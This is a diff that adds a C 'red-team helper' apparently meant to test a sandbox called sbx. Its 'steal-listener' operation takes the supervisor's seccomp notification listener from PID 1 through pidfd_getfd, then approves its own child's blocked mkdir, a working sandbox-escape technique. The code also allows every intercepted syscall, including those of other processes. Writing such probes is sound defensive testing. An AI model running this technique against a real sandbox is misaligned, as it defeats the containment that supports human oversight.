@@ -1,0 +1,85 @@
+// rt: red-team helper for sbx. Usage: rt OP [ARGS...]; prints one verdict line.
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/seccomp.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <sys/prctl.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <arpa/inet.h>
+#include <unistd.h>
+
+static const char *en(int e) {
+	switch (e) {
+	case 0: return "ok"; case EPERM: return "EPERM"; case EACCES: return "EACCES"; case ENOSYS: return "ENOSYS";
+	case EBADF: return "EBADF"; case ESRCH: return "ESRCH"; case EINVAL: return "EINVAL"; case EEXIST: return "EEXIST";
+	case ENOENT: return "ENOENT"; case EROFS: return "EROFS"; case EXDEV: return "EXDEV"; case EAFNOSUPPORT: return "EAFNOSUPPORT";
+	case ECONNREFUSED: return "ECONNREFUSED"; case EINPROGRESS: return "EINPROGRESS"; case EOPNOTSUPP: return "EOPNOTSUPP";
+	case EPROTONOSUPPORT: return "EPROTONOSUPPORT"; case ENETUNREACH: return "ENETUNREACH"; case ENXIO: return "ENXIO";
+	case EBUSY: return "EBUSY"; case ENOTDIR: return "ENOTDIR"; case EISDIR: return "EISDIR"; case ETXTBSY: return "ETXTBSY";
+	case EADDRNOTAVAIL: return "EADDRNOTAVAIL"; case ESOCKTNOSUPPORT: return "ESOCKTNOSUPPORT"; case EPROTOTYPE: return "EPROTOTYPE";
+	}
+	static char b[32]; snprintf(b, sizeof b, "errno%d", e); return b;
+}
+#define R(x) do { long _r = (x); printf("%s\n", _r < 0 ? en(errno) : "ok"); return 0; } while (0)
+
+static void onalrm(int s) { (void)s; }
+// steal-listener NAME: take the seccomp listener from PID 1 (the supervisor)
+// with pidfd_getfd, then answer our own child's mkdir(NAME) with CONTINUE.
+static int steal_listener(const char *name) {
+	int pfd = syscall(SYS_pidfd_open, 1, 0);
+	if (pfd < 0) { printf("pidfd_open %s\n", en(errno)); return 0; }
+	int lfd = -1;
+	for (int fd = 3; fd < 64; fd++) {
+		int t = syscall(SYS_pidfd_getfd, pfd, fd, 0);
+		if (t < 0) { if (errno != EBADF) { printf("pidfd_getfd %s\n", en(errno)); return 0; } continue; }
+		char p[64], l[128] = {0}; snprintf(p, sizeof p, "/proc/self/fd/%d", t);
+		readlink(p, l, sizeof l - 1);
+		if (strstr(l, "seccomp")) { lfd = t; break; }
+		close(t);
+	}
+	if (lfd < 0) { printf("no listener\n"); return 0; }
+	for (int tries = 0; tries < 200; tries++) {
+		pid_t c = fork();
+		if (c == 0) { usleep(1000); _exit(mkdir(name, 0755) == 0 ? 0 : 1); }
+		struct seccomp_notif n; memset(&n, 0, sizeof n);
+		struct sigaction sa = {0}; sa.sa_handler = onalrm; sigaction(SIGALRM, &sa, NULL);
+		ualarm(200000, 0);
+		int got = ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &n) == 0;
+		ualarm(0, 0);
+		if (got) {
+			struct seccomp_notif_resp r = {.id = n.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
+			if (n.pid != (unsigned)c) { r.flags = 0; r.error = -EPERM; } // not ours: be polite? just continue anyway
+			r.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE; r.error = 0;
+			ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &r);
+		}
+		int st; waitpid(c, &st, 0);
+		struct stat sb;
+		if (lstat(name, &sb) == 0) { printf("created %s\n", name); return 0; }
+	}
+	printf("not created\n");
+	return 0;
+}
+
+int main(int argc, char **argv) {
+	if (argc < 2) return 2;
+	const char *op = argv[1];
+	setvbuf(stdout, NULL, _IONBF, 0);
+	if (!strcmp(op, "steal-listener")) return steal_listener(argv[2]);
+	if (!strcmp(op, "pidfd-getfd")) { // pidfd-getfd PID FD
+		int pfd = syscall(SYS_pidfd_open, atoi(argv[2]), 0);
+		if (pfd < 0) R(-1);
+		R(syscall(SYS_pidfd_getfd, pfd, atoi(argv[3]), 0));
+	}
+	printf("unknown op\n");
+	return 2;
+}
